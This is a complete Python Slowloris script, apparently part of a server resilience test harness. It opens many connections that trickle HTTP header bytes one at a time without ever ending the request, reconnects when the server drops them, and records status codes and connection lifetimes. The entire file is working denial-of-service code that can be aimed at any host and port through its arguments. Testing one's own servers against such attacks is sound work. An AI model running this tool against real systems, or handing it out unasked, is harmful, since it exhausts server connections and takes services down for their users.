#!/usr/bin/env python3
"""Slowloris: connections that send a request header one byte every few seconds.

Each of --conns connections sends `GET --path HTTP/1.1`, a Host line and
then endless `X-Slow-N: ...` header lines, one byte every --interval
seconds, and never ends the header (at most --max-header-bytes, then it only
holds the connection). It reads whatever the server answers: an answer (its
status line is counted, e.g. 408), an EOF or a reset means the server closed
it, and the slot reconnects after --reopen-delay. Stops by itself after
--secs or --max-opens connections.

  slowloris.py --port 8080 --conns 100 --interval 3 --secs 600 --path /ipfs/bafy...
"""

import asyncio
import collections
import time

import common


def header_bytes(args):
    head = f"GET {args.path} HTTP/1.1\r\nHost: {args.host}:{args.port}\r\n".encode()
    yield from head
    n = 0
    while True:
        yield from f"X-Slow-{n}: {'a' * 20}\r\n".encode()
        n += 1


async def main(stop, args):
    c = common.Counters("slowloris", args)
    statuses = collections.Counter()
    c.extra["answers"] = statuses
    max_opens = args.max_opens or 1000 * args.conns
    deadline = time.monotonic() + args.secs
    open_since = {}

    async def one_connection(key):
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(args.host, args.port),
                                                    args.connect_timeout)
        except (OSError, asyncio.TimeoutError):
            c.connect_errors += 1
            return False
        c.opened += 1
        c.open_now += 1
        open_since[key] = time.monotonic()
        closed = False

        async def read_answer():
            nonlocal closed
            try:
                data = await reader.read(4096)
            except OSError:
                data = b""
            if data:
                line = data.split(b"\r\n", 1)[0].decode("latin-1")
                parts = line.split(" ")
                statuses[parts[1] if len(parts) > 1 and line.startswith("HTTP/") else "other"] += 1
            else:
                statuses["closed without an answer"] += 1
            closed = True

        async def trickle():
            nonlocal closed
            sent = 0
            for b in header_bytes(args):
                if sent >= args.max_header_bytes:
                    break
                try:
                    writer.write(bytes([b]))
                    await writer.drain()
                except OSError:
                    closed = True
                    return
                sent += 1
                await asyncio.sleep(args.interval)
            await asyncio.Event().wait()  # hold the connection

        tasks = [asyncio.ensure_future(read_answer()), asyncio.ensure_future(trickle()),
                 asyncio.ensure_future(stop.wait())]
        await asyncio.wait(tasks, timeout=max(0.0, deadline - time.monotonic()),
                           return_when=asyncio.FIRST_COMPLETED)
        for t in tasks:
            t.cancel()
        opened_at = open_since.pop(key)
        c.open_now -= 1
        if closed:
            c.closed_by_server += 1
            c.lifetimes.append(time.monotonic() - opened_at)
        writer.transport.abort()
        return closed

    async def slot(i):
        while not stop.is_set() and time.monotonic() < deadline and c.opened < max_opens:
            await one_connection(i)
            if stop.is_set() or time.monotonic() >= deadline:
                break
            await asyncio.sleep(args.reopen_delay)

    async def monitor():
        while not stop.is_set() and time.monotonic() < deadline:
            now = time.monotonic()
            c.write(now - t for t in open_since.values())
            try:
                await asyncio.wait_for(stop.wait(), args.check_secs)
            except asyncio.TimeoutError:
                pass

    ages = []

    async def note_ages():
        try:
            await asyncio.wait_for(stop.wait(), max(0.0, deadline - time.monotonic() - 0.5))
        except asyncio.TimeoutError:
            pass
        now = time.monotonic()
        ages.extend(now - t for t in open_since.values())

    mon = asyncio.ensure_future(monitor())
    await asyncio.gather(note_ages(), *(slot(i) for i in range(args.conns)))
    stop.set()
    await mon
    c.write(ages)
    print(common.json.dumps(c.snapshot(ages)), flush=True)


if __name__ == "__main__":
    p = common.base_args(__doc__.split("\n")[0])
    p.add_argument("--path", default="/ipfs/bafkqaaa", help="request target in the request line")
    p.add_argument("--interval", type=float, default=3.0, help="seconds between two header bytes")
    p.add_argument("--max-header-bytes", type=int, default=8000, help="header bytes sent at most, then it only holds")
    a = p.parse_args()
    common.run(lambda stop: main(stop, a))
